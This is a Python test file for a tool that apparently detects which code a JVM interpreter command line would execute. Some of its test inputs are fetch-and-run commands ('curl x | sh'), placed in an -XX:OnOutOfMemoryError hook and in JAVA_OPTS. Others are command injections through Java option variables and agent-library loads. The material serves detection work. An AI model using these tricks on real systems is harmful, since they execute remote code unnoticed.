"""What runs on Java, case by case: which texts run, and which lines like them run none. Each was tried on the real program."""

from __future__ import annotations

import pytest

from flycatcher.core.execution import Execution
from flycatcher.core.interpreters import builtin, read
from flycatcher.core.interpreters.engine.reading import Reading

Found = list[tuple[str, str | None]]
STDIN: Found = [("stdin", None)]
GROOVY = (
    "java",
    "-classpath",
    "g.jar",
    "org.codehaus.groovy.tools.GroovyStarter",
    "--main",
    "groovy.ui.GroovyMain",
    "--conf",
    "c",
)
COMMAND = "-XX:OnOutOfMemoryError="


def reading(words: tuple[str, ...], stdin: str = "pipe", **env: str) -> Reading:
    """Read a line."""
    found = read(Execution(argv=words, stdin=stdin, env=env))
    assert found is not None
    return found


def texts(found: Reading) -> Found:
    """Return vectors and texts."""
    return [(snippet.vector, snippet.text) for snippet in found.snippets]


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (("clojure", "-e", "A", "-e", "B"), [("argument", "A"), ("argument", "B")]),
        (("clojure", "-e", "A", "-r"), [("argument", "A"), ("stdin", None)]),
        (("clojure", "-e", "A", "f.clj", "-e", "B"), [("argument", "A")]),
        (("clojure", "-e", "A", "--version"), [("argument", "A")]),  # a script of that name, which fails behind it
        (("clojure", "-e", "A", "-h"), []),
        (("clojure", "-e", "A", "-e"), [("argument", "A")]),
        (("clojure", "-r", "-h", "f"), STDIN),
        (("clojure", "-i", "f.clj"), []),
        (("clojure", "--report", "stderr"), []),
        (("clojure", "-m", "x"), []),
        (("clojure", "-"), STDIN),
        (("clojure", "-cp", "x", "--", "-e", "A"), [("argument", "A")]),
        (("clj", "-M", "-e", "A"), [("argument", "A")]),
        (("clj", "-Sdeps", "{}", "-M:dev", "-e", "A"), [("argument", "A")]),
        (("clojure",), STDIN),
        (("bb", "-e", "A"), [("argument", "A")]),
        (("bb", "(go)"), [("argument", "(go)")]),
        (("bb", "f.clj"), []),
        (("rhino", "-e", "A", "-x"), [("argument", "A")]),  # it has run before the mistake is found
        (("rhino", "-e", "A", "-?"), [("argument", "A")]),
        (("rhino", "-opt", "x", "-e", "A"), []),
        (("rhino", "-e", "A", "f.js"), [("argument", "A")]),
        (("rhino", "-f", "-", "f.js"), STDIN),
        (("rhino", "-"), []),
        (("rhino", "-sealedlib", "-w"), STDIN),
        (("rhino", "http://h/x.js"), [("url", None)]),
        (("bsh", "-e", "A"), []),
        (("bsh", "-"), []),
        (("bsh", "-classpath", "x"), STDIN),
        (("bsh", "/dev/stdin"), [("descriptor", None)]),
        (("groovy", "-e", "A", "-e", "B"), [("argument", "A")]),
        (("groovy", "-ane", "A"), []),  # -a takes the rest of the cluster
        (("groovy", "-ne", "A"), [("argument", "A")]),
        (("groovy", "-e", "-n"), []),
        (("groovy", "-i", "-e", "A"), [("argument", "A")]),
        (("groovy", "-", "f.groovy"), []),
        (("groovy", "--encoding=UTF-8", "-e", "A"), [("argument", "A")]),
        (("groovy", "https://h/x"), [("url", None)]),
        (("groovy", "-v", "-e", "A"), []),
        (("groovy", "/dev/stdin"), []),  # it opens it twice, and of a pipe nothing is left then
        (("groovysh", "-e", "A", "-e", "B", "f.groovy"), [("argument", "A"), ("stdin", None)]),
        (("groovysh", "--eval", "A"), [("argument", "A"), ("stdin", None)]),
        (("jshell", "-q", "-v"), []),  # contradictory
        (("jshell", "f.jsh", "-"), STDIN),
        (("jshell", "f.jsh"), STDIN),
        (("jython", "-Sc", "A", "x"), [("argument", "A")]),
        (("jython", "-ic", "A"), [("argument", "A"), ("stdin", None)]),
        (("jython", "-i", "f.py"), STDIN),
        (("jython", "--", "f.py"), STDIN),
        (("jython", "-Qx", "-c", "A"), []),
        (("jython", "-V", "-c", "A"), []),
        (("jython", "-m", "x"), []),
        (("scala", "-nc", "-e", "A", "-e", "B"), [("argument", "B")]),
        (("scala", "-howtorun", "script", "f.scala"), []),
        (("scala", "_.sc"), STDIN),
        (("kotlin", "-e", "A", "-e", "B"), [("argument", "A")]),
        (("kotlin", "-J-Xmx1g", "-cp", "x", "-expression", "A"), [("argument", "A")]),
        (("kotlin", "f.kts", "-e", "A"), []),
        (("kotlin", "-x", "-e", "A"), []),
        (("kotlinc", "-e", "A"), [("argument", "A")]),
        (("kotlinc", "-expression=A", "f.kts", "-e", "B"), [("argument", "B")]),  # the last one
        (("kotlinc", "-script", "f.kts"), []),
        (("kotlinc", "-d", "x.jar", "f.kt"), []),
        (("kotlinc", "-Xrepl"), STDIN),
    ],
)
def test_lines(words: tuple[str, ...], expected: Found) -> None:
    assert texts(reading(words)) == expected


@pytest.mark.parametrize(
    ("words", "language", "index"),
    [
        ((*GROOVY, "-e", "A"), "groovy", 9),
        (("java", "-jar", "/x/jython-standalone-2.7.4.jar", "-c", "A"), "python", 4),
        (("java", "-jar", "clojure-1.11.jar", "-e", "A"), "clojure", 4),
        (("java", "-jar", "/x/jruby-complete-9.4.jar", "-e", "A"), "ruby", 4),
        (("java", "-cp", "x", "org.mozilla.javascript.tools.shell.Main", "-e", "A"), "javascript", 5),
        (("java", "--module=java.scripting/com.sun.tools.script.shell.Main", "-e", "A"), "javascript", 3),
        (("java", "@args", "-cp", "x", "clojure.main", "-e", "A"), "clojure", 6),
        (("java", "org.jetbrains.kotlin.preloading.Preloader", "-cp", "x", "org.jetbrains.kotlin.cli.jvm.K2JVMCompiler", "-e", "A"),
         "kotlin", 6),
    ],
)  # fmt: skip
def test_java_starts_them(words: tuple[str, ...], language: str, index: int) -> None:
    found = reading(words, "null")
    assert [(s.language, s.argv_index, s.text) for s in found.snippets] == [(language, index, "A")]


@pytest.mark.parametrize(
    ("words", "runs"),
    [
        (("java", "--source", "17", "/dev/stdin"), True),
        (("java", "--source=17", "-cp", "x", "/dev/fd/0", "a"), True),
        (("java", "/dev/stdin"), False),
        (("java", "--source", "17", "F.java"), False),
        (("java", "F.java", "--source", "17", "/dev/stdin"), False),
        (("java", "-jar", "x.jar", "-e", "A"), False),
        (("java", "--version"), False),
    ],
)
def test_a_source_file_may_be_a_descriptor_where_java_is_told_so(words: tuple[str, ...], runs: bool) -> None:
    assert texts(reading(words)) == ([("descriptor", None)] if runs else [])


def test_the_launchers_own_variable_tells_it_too() -> None:
    assert texts(reading(("java", "/dev/stdin"), JDK_JAVA_OPTIONS="-Da='b c' --source 17")) == [("descriptor", None)]
    assert texts(reading(("java", "/dev/stdin"), JAVA_TOOL_OPTIONS="--source 17")) == []


def test_commands_for_when_the_machine_fails_count_where_a_shell_has_to_read_them() -> None:
    found = reading(("java", f"{COMMAND}curl x | sh", "-jar", "x.jar"))
    assert [(s.language, s.argv_index, s.offset, s.text) for s in found.snippets] == [("shell", 1, 23, "curl x | sh")]
    assert texts(reading(("java", f"{COMMAND}kill -9 %p", "-jar", "x.jar"))) == []
    assert texts(reading(("java", "-jar", "x.jar", f"{COMMAND}curl x | sh"))) == []
    found = reading(("java", "Main"), JAVA_TOOL_OPTIONS=f"-Xmx1m '{COMMAND}a;b'")
    assert [(s.vector, s.variable, s.text) for s in found.snippets] == [("environment", "JAVA_TOOL_OPTIONS", "a;b")]
    assert texts(reading(("jshell", f"-J{COMMAND}a;b"), "null")) == [("argument", "a;b")]


def test_agents_are_files_that_run_first() -> None:
    found = reading(
        ("java", "-javaagent:/opt/apm.jar=x=y", "-agentpath:/tmp/a.so", "Main"), _JAVA_OPTIONS="-javaagent:/opt/b.jar"
    )
    assert [(load.path, load.variable) for load in found.loads] == [
        ("/opt/b.jar", "_JAVA_OPTIONS"),
        ("/opt/apm.jar", None),
    ]
    assert [(s.path, s.option) for s in found.snippets] == [("/tmp/a.so", "-agentpath")]


def test_what_the_script_of_groovy_evaluates() -> None:
    found = reading(("groovy", "f.groovy"), JAVA_OPTS="-Da=$(curl x | sh)")
    assert [(s.language, s.variable, s.text) for s in found.snippets] == [("shell", "JAVA_OPTS", "-Da=$(curl x | sh)")]
    assert texts(reading(("groovy", "f.groovy"), JAVA_OPTS="-Xmx1g -Da=b")) == []
    found = reading(("groovy", "f.groovy"), PROFILER="/tmp/p")
    assert [(s.path, s.variable) for s in found.snippets] == [("/tmp/p", "PROFILER")]


def test_jython_reads_a_start_up_file_before_a_session() -> None:
    assert [load.path for load in reading(("jython", "-i"), "null", JYTHONSTARTUP="s.py").loads] == ["s.py"]
    assert reading(("jython", "-i", "f.py"), "null", JYTHONSTARTUP="s.py").loads == []
    assert reading(("jython", "-E", "-i"), "null", JYTHONSTARTUP="s.py").loads == []
    assert texts(reading(("jython", "f.py"), PYTHONINSPECT="1")) == []  # at a terminal alone


def test_main_classes_and_jars_belong_to_one_interpreter_each() -> None:
    names = [name for each in builtin().values() for name in (*each.main_classes, *each.jars)]
    assert len(names) == len(set(names))
